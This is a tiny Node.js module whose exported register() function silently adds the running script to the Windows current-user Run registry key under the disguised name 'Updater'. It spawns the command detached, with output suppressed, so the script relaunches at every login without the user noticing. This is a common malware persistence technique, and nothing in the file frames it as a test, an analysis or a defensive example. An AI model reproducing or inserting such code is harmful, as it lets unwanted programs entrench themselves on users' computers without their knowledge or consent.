const { spawn } = require('child_process');
const args = ['add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'Updater', '/d', process.argv[1], '/f'];
exports.register = () => spawn('reg', args, { detached: true, stdio: 'ignore' }).unref(); //@act
